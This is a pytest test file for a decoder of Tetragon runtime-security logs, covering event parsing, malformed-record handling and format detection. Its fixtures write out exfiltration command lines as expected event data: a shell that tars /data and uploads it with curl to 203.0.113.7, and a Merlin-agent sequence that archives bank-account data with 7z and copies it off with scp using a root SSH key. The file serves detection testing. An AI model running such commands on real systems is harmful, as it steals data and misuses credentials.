"""Golden tests for the Tetragon source: a JSON-lines export, pretty-printed objects, the corpus."""

from __future__ import annotations

import base64
from collections import Counter
from pathlib import Path

import pytest

from tests.helpers import read
from tidewaiter.events import (
    Activity,
    Container,
    Endpoint,
    Event,
    File,
    Image,
    Kind,
    Process,
    RawRef,
    Traffic,
)
from tidewaiter.sources import RecordError, get
from tidewaiter.sources.tetragon import MAX_RECORD, TetragonDecoder

NODE = "worker-2"
POD = Container(
    uid="5f0c2b8e9d7a41c3b6e8f9a0d1c2b3a4e5f60718293a4b5c6d7e8f9a0b1c2d3e",
    name="backup",
    image=Image(
        name="registry.example.com/payments/backup:1.4.2",
        uid="registry.example.com/payments/backup@sha256:"
        "3b8d1f6e2a4c5b7d9e0f1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f7",
    ),
    runtime="containerd",
    pod_name="backup-7c9d8f6b5-x2k4p",
    namespace="payments",
    owner="Deployment/backup",
)
SH_COMMAND = '-c "tar -czf /tmp/x.tgz /data && curl -sT /tmp/x.tgz https://203.0.113.7/upload"'

FALCO = (
    b'{"output":"...","priority":"Notice","rule":"x","time":"2024-01-01T00:00:00Z",'
    b'"output_fields":{"proc.name":"tar"}}\n'
)
ZEEK = b'{"ts":1.0,"uid":"C1","id.orig_h":"10.0.0.1"}\n'
HUBBLE = b'{"flow":{"verdict":"FORWARDED"},"node_name":"worker-2","time":"2024-05-02T10:00:06Z"}\n'


def exec_id(ktime: int, pid: int) -> str:
    return base64.b64encode(f"{NODE}:{ktime}:{pid}".encode()).decode()


def proc(
    pid: int | None,
    ktime: int,
    binary: str,
    cmd_line: str,
    parent: Process | None = None,
    cwd: str = "/srv/backup/",
    *,
    real_pid: int | None = None,
) -> Process:
    return Process(
        pid=pid,
        uid=exec_id(ktime, real_pid if real_pid is not None else pid or 0),
        path=binary,
        cmd_line=cmd_line,
        cwd=cwd,
        user="0",
        parent=parent,
    )


SH = proc(4210, 1714644000871234567, "/bin/sh", f"/bin/sh {SH_COMMAND}")
TAR = proc(4211, 1714644001123456789, "/usr/bin/tar", "/usr/bin/tar -czf /tmp/x.tgz /data", SH)
CURL = proc(
    4230,
    1714644006250000000,
    "/usr/bin/curl",
    "/usr/bin/curl -sT /tmp/x.tgz https://203.0.113.7/upload",
    SH,
)
POD_IP = "10.244.1.17"
UPLOAD = Endpoint(ip="203.0.113.7", port=443)


def event(
    path: Path,
    line: int,
    time: float,
    kind: Kind,
    activity: Activity,
    process: Process,
    container: Container | None = POD,
    *,
    file: File | None = None,
    src_endpoint: Endpoint | None = None,
    dst_endpoint: Endpoint | None = None,
    traffic: Traffic | None = None,
) -> Event:
    return Event(
        time=time,
        kind=kind,
        activity=activity,
        raw=RawRef("tetragon", str(path), line=line),
        host=NODE,
        container=container,
        process=process,
        file=file,
        src_endpoint=src_endpoint,
        dst_endpoint=dst_endpoint,
        traffic=traffic,
    )


def test_export(fixtures: Path) -> None:
    path = fixtures / "tetragon" / "export.jsonl"
    events, report = read(path)
    assert report.files == {str(path): "tetragon"}
    src = Endpoint(ip=POD_IP, port=48110)
    assert events == [
        event(path, 1, 1714644001.123456, Kind.PROCESS, Activity.LAUNCH, TAR),
        event(path, 2, 1714644001.13, Kind.FILE, Activity.WRITE, TAR, file=File("/tmp/x.tgz")),
        # line 3 is a read (security_file_permission, mask MAY_READ): nothing to use
        event(path, 4, 1714644005.9, Kind.PROCESS, Activity.EXIT, TAR),
        event(path, 6, 1714644006.25, Kind.PROCESS, Activity.LAUNCH, CURL),
        event(
            path,
            7,
            1714644006.3,
            Kind.NETWORK,
            Activity.CONNECT,
            CURL,
            src_endpoint=src,
            dst_endpoint=UPLOAD,
        ),
        event(
            path,
            8,
            1714644006.41,
            Kind.NETWORK,
            Activity.SEND,
            CURL,
            src_endpoint=src,
            dst_endpoint=UPLOAD,
            traffic=Traffic(bytes_out=1048576),
        ),
        event(
            path,
            9,
            1714644007.02,
            Kind.NETWORK,
            Activity.CLOSE,
            CURL,
            src_endpoint=src,
            dst_endpoint=UPLOAD,
        ),
        # lines 10-11: a tracepoint and a kprobe on __x64_sys_setuid, nothing to use
        # a host process: no container
        event(
            path,
            12,
            1714644010.0,
            Kind.PROCESS,
            Activity.LAUNCH,
            proc(
                9001,
                1714644010000000000,
                "/usr/bin/rsync",
                "/usr/bin/rsync -a /var/log/ backup01:/logs/",
                proc(
                    1,
                    1714643000000000000,
                    "/usr/lib/systemd/systemd",
                    "/usr/lib/systemd/systemd --system --deserialize 31",
                    cwd="/",
                ),
                cwd="/root/",
            ),
            container=None,
        ),
        # docker-in-docker: runc in the outer container starts the inner one's shell, which
        # keeps its own container (a runtime exec is how a process changes container)
        event(
            path,
            13,
            1714644011.5,
            Kind.PROCESS,
            Activity.LAUNCH,
            proc(
                7002,
                1714644011500000000,
                "/bin/sh",
                "/bin/sh",
                proc(7001, 1714644011000000000, "/usr/bin/runc", "/usr/bin/runc init", cwd="/"),
                cwd="/",
            ),
            container=Container(uid="ffee0011223344556677889900aabbc"),
        ),
        # a child of the pod's sh with a stale docker id stays in sh's container
        event(
            path,
            14,
            1714644012.0,
            Kind.PROCESS,
            Activity.LAUNCH,
            proc(4240, 1714644012000000000, "/usr/bin/zip", "/usr/bin/zip -r /tmp/y.zip /data", SH),
        ),
        # type drift: pid "4250" is read as a number; the parent's pid "n/a" is dropped
        event(
            path,
            15,
            1714644013.0,
            Kind.PROCESS,
            Activity.LAUNCH,
            proc(
                4250,
                1714644013000000000,
                "/bin/gzip",
                "/bin/gzip -9 /tmp/dump.sql",
                proc(None, 1714644000871234567, "/bin/sh", f"/bin/sh {SH_COMMAND}", real_pid=4210),
            ),
        ),
        # invalid UTF-8 in the binary's name: the event survives with U+FFFD
        event(
            path,
            19,
            1714644016.0,
            Kind.PROCESS,
            Activity.LAUNCH,
            proc(
                4260,
                1714644016000000000,
                "/tmp/\ufffd\ufffdexfil",
                "/tmp/\ufffd\ufffdexfil --quiet",
                SH,
            ),
        ),
    ]
    assert (report.records, report.events, report.ignored) == (21, 12, 3)
    problems = [
        ("line 16", "malformed JSON"),  # cut short
        ("line 17", "unknown Tetragon record type 'process_teleport'"),
        ("line 18", "malformed JSON"),  # binary garbage
        ("line 20", "not a JSON object"),
        ("line 21", "tcp_connect without sock_arg"),
        ("line 22", "record has no time"),  # only an exec may fall back to its start time
    ]
    assert [(p.where, p.reason) for p in report.examples] == problems
    assert report.skipped == Counter(reason for _, reason in problems)


def test_pretty_printed_objects(fixtures: Path) -> None:
    path = fixtures / "tetragon" / "pretty.json"
    events, report = read(path)
    assert report.files == {str(path): "tetragon"}
    # Each event points at the line where its object opens; the awk program's braces sit inside
    # a JSON string and must not end the first object early.
    awk = proc(
        4270,
        1714644020000000000,
        "/usr/bin/awk",
        "/usr/bin/awk '{print $1}' /data/accounts.csv",
        SH,
    )
    assert events == [
        event(path, 1, 1714644020.0, Kind.PROCESS, Activity.LAUNCH, awk),
        event(
            path,
            77,
            1714644021.0,
            Kind.NETWORK,
            Activity.SEND,
            CURL,
            src_endpoint=Endpoint(ip=POD_IP, port=48110),
            dst_endpoint=UPLOAD,
            traffic=Traffic(bytes_out=65536),
        ),
    ]
    assert report.skipped_total == 0


def test_an_unterminated_object_is_reported_and_the_next_one_read(
    fixtures: Path, tmp_path: Path
) -> None:
    lines = (fixtures / "tetragon" / "pretty.json").read_bytes().splitlines(keepends=True)
    assert lines[76] == b"{\n"
    # the first object loses its tail: the second still reads; at the end, a third is cut off
    path = tmp_path / "cut.json"
    path.write_bytes(b"".join(lines[:40] + lines[76:] + lines[:10]))
    events, report = read(path)
    assert [(e.raw.line, e.activity) for e in events] == [(41, Activity.SEND)]
    assert [(p.where, p.reason) for p in report.examples] == [
        ("line 1", "unterminated multi-line record"),  # where the cut-off object began
        ("end of file (line 149)", "unterminated multi-line record"),
    ]


def test_an_oversized_object_is_reported_once_and_reading_goes_on(fixtures: Path) -> None:
    decoder = get("tetragon").decoder("mem")
    assert isinstance(decoder, TetragonDecoder)
    ref = RawRef("tetragon", "mem", line=1)
    assert decoder.feed(b"{\n", ref) == []
    assert decoder.assembling
    filler = b'   "x": "' + b"a" * (1024 * 1024) + b'",\n'
    for _ in range(MAX_RECORD // len(filler)):
        assert decoder.feed(filler, ref) == []
    with pytest.raises(RecordError, match="record larger than 8 MiB"):
        decoder.feed(filler, ref)
    assert decoder.feed(filler, ref) == []  # the rest of the object is skipped quietly
    assert decoder.feed(b'   "y": {"z": "}"}\n', ref) == []
    assert decoder.feed(b"}\n", ref) == []
    assert not decoder.assembling
    line = (fixtures / "tetragon" / "export.jsonl").read_bytes().splitlines()[0]
    [launch] = decoder.feed(line, ref)
    assert launch.process is not None
    assert launch.process.path == "/usr/bin/tar"
    assert list(decoder.flush()) == []


T0 = b'"time":"2024-05-02T10:00:00Z"'


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        (b'{"node_name":"worker-2",' + T0 + b"}", "record has no Tetragon event"),
        (b'{"process_exec":null,' + T0 + b"}", "empty process_exec record"),
        (b'{"process_exit":{"status":0},' + T0 + b"}", "process_exit record without process"),
        (
            b'{"process_exec":{"process":{"binary":"/bin/sh"}},"time":"yesterday"}',
            "unreadable time 'yesterday'",
        ),
        (
            b'{"process_kprobe":{"process":{},"function_name":"fd_install",'
            b'"args":[{"int_arg":3}]},' + T0 + b"}",
            "fd_install without file_arg",
        ),
    ],
)
def test_records_that_cannot_be_read(line: bytes, reason: str) -> None:
    with pytest.raises(RecordError) as raised:
        TetragonDecoder().feed(line, RawRef("tetragon", "mem", line=1))
    assert str(raised.value) == reason


def test_known_event_types_without_use_are_not_errors() -> None:
    line = b'{"process_lsm":{"function_name":"file_open"},"node_name":"n",' + T0 + b"}"
    assert TetragonDecoder().feed(line, RawRef("tetragon", "mem", line=1)) == []


@pytest.mark.parametrize("name", ["export.jsonl", "pretty.json"])
def test_sniff_accepts_tetragon(fixtures: Path, name: str) -> None:
    assert get("tetragon").sniff((fixtures / "tetragon" / name).read_bytes()[:65536])


def test_sniff_skips_leading_blank_lines(fixtures: Path) -> None:
    for name in ("export.jsonl", "pretty.json"):
        assert get("tetragon").sniff(b"\n  \n" + (fixtures / "tetragon" / name).read_bytes())


def test_sniff_accepts_a_pretty_printed_object_cut_short(fixtures: Path) -> None:
    head = (fixtures / "tetragon" / "pretty.json").read_bytes()[:2000]
    assert get("tetragon").sniff(head)
    assert not get("tetragon").sniff(b'{\n   "flow": {\n      "verdict": "FORWARDED",\n')


@pytest.mark.parametrize("head", [FALCO, ZEEK, HUBBLE, b"\x00\xff\xfe garbage\n", b"[]\n", b""])
def test_sniff_rejects_other_formats(head: bytes) -> None:
    assert not get("tetragon").sniff(head)


def test_sniff_rejects_ocsf(fixtures: Path) -> None:
    assert not get("tetragon").sniff((fixtures / "ocsf" / "events.jsonl").read_bytes())


# --- the real corpus (../shared/corpus/tetragon) ---------------------------------------------

CORPUS_FILES = {
    "merlin-agent-7z.json": 1,
    "merlin-agent-7z-exit.json": 1,
    "merlin-agent-scp.json": 1,
    "merlin-agent-scp-ssh.json": 1,
    "merlin-agent-ssh-tunnel-connect.json": 1,
    "process_exec.json": 1,
    "process_kprobe.json": 1,
    "testdata_events.jsonl": 3,
}
MERLIN = Container(uid="80976c957594cea6d9f58d12")


@pytest.mark.corpus
def test_corpus_holds_the_expected_files(corpus: Path) -> None:
    assert {p.name for p in (corpus / "tetragon").glob("*.json*")} == set(CORPUS_FILES)


@pytest.mark.corpus
@pytest.mark.parametrize(("name", "count"), CORPUS_FILES.items())
def test_corpus_file_reads_cleanly(corpus: Path, name: str, count: int) -> None:
    path = corpus / "tetragon" / name
    events, report = read(path)
    assert report.files == {str(path): "tetragon"}  # sniffed
    assert report.skipped_total == 0
    assert len(events) == count
    assert events[0].raw.line == 1  # a pretty-printed object is located where it opens


def only(corpus: Path, name: str) -> Event:
    [found], _ = read(corpus / "tetragon" / name)
    return found


@pytest.mark.corpus
def test_corpus_7z_belongs_to_its_shells_container(corpus: Path) -> None:
    launch = only(corpus, "merlin-agent-7z.json")
    assert (launch.kind, launch.activity, launch.host) == (
        Kind.PROCESS,
        Activity.LAUNCH,
        "minikube",
    )
    assert launch.time == 1642593931.478
    assert launch.process is not None
    assert launch.process.path == "/usr/bin/7z"
    # arguments already start with the binary: not doubled
    assert launch.process.cmd_line == "/usr/bin/7z a s3nsitiv3.7z ../ops_bank_accounts/"
    assert launch.process.pid == 45780
    assert launch.process.parent is not None
    assert launch.process.parent.path == "/bin/sh"
    assert launch.process.parent.cmd_line == '/bin/sh -c "7z a s3nsitiv3.7z ../ops_bank_accounts/"'
    # the record says a51959123c3ba99a9f50a700; sh (not a runtime) is in 80976c957594...
    assert launch.container == MERLIN

    exit_ = only(corpus, "merlin-agent-7z-exit.json")
    assert (exit_.activity, exit_.container) == (Activity.EXIT, MERLIN)
    assert exit_.process is not None
    assert exit_.process.uid == launch.process.uid


@pytest.mark.corpus
def test_corpus_scp_and_its_ssh_connect(corpus: Path) -> None:
    scp = only(corpus, "merlin-agent-scp.json")
    assert scp.process is not None
    assert scp.process.cmd_line == (
        "/usr/bin/scp -i /root/.ssh/id_rsa s3nsitiv3.7z natalia@34.116.205.187:~"
    )
    assert scp.container == MERLIN
    ssh = only(corpus, "merlin-agent-scp-ssh.json")
    assert ssh.process is not None
    assert ssh.process.parent is not None
    assert (ssh.process.path, ssh.process.parent.path) == ("/usr/bin/ssh", "/usr/bin/scp")
    assert ssh.container == MERLIN

    connect = only(corpus, "merlin-agent-ssh-tunnel-connect.json")
    assert (connect.kind, connect.activity) == (Kind.NETWORK, Activity.CONNECT)
    assert connect.dst_endpoint == Endpoint(ip="34.116.205.187", port=22)
    assert connect.src_endpoint == Endpoint(ip="10.88.0.3", port=49662)
    assert connect.container == MERLIN
    assert connect.process is not None
    assert connect.process.uid == ssh.process.uid


@pytest.mark.corpus
def test_corpus_kprobe_in_a_kubernetes_pod(corpus: Path) -> None:
    write = only(corpus, "process_kprobe.json")
    assert (write.kind, write.activity, write.file) == (
        Kind.FILE,
        Activity.WRITE,
        File("etc/passwd"),
    )
    assert write.container == Container(
        uid="bae66fa9f18079f78500ad37e88eb8a88b3181b2d0767f26dc532f75e4024d27",
        name="elasticsearch",
        image=Image(
            name="quay.io/isovalent/jobs-app-elasticsearch:latest",
            uid="quay.io/isovalent/jobs-app-elasticsearch@sha256:"
            "ff3aa5862fd17f8695984609743f4523188984adbcd25cf5ac4224b71084558c",
        ),
        runtime="containerd",
        pod_name="elasticsearch-56f8fc6988-sh8rm",
        namespace="tenant-jobs",
    )
    exec_ = only(corpus, "process_exec.json")
    assert exec_.container is not None
    assert exec_.container.runtime == "docker"
    assert exec_.container.image is not None
    # Kubernetes' docker-pullable:// scheme is not part of the digest reference
    assert exec_.container.image.uid == (
        "quay.io/isovalent/jobs-app-elasticsearch@sha256:"
        "ff3aa5862fd17f8695984609743f4523188984adbcd25cf5ac4224b71084558c"
    )


@pytest.mark.corpus
def test_corpus_export_lines(corpus: Path) -> None:
    events, _ = read(corpus / "tetragon" / "testdata_events.jsonl")
    assert [(e.raw.line, e.time) for e in events] == [
        (1, 1666062978.273546),  # no event time: the exec's start time
        (2, 1666062981.373327),
        (3, 1666062982.225264),
    ]
    # the parent is containerd-shim on the host: each process keeps its own pod container
    assert [e.container.pod_name if e.container else None for e in events] == [
        "tiefighter",
        "deathstar-6f87496b94-qdlh8",
        "deathstar-6f87496b94-gjf74",
    ]
    first = events[0]
    assert first.process is not None
    assert first.process.parent is not None
    assert first.process.parent.path == "/usr/bin/containerd-shim-runc-v2"
    assert first.container is not None
    assert first.container.uid == "19a02291e106ce6227b684197be232ea57c4e1a5ab2604a12608c325d701c7f4"
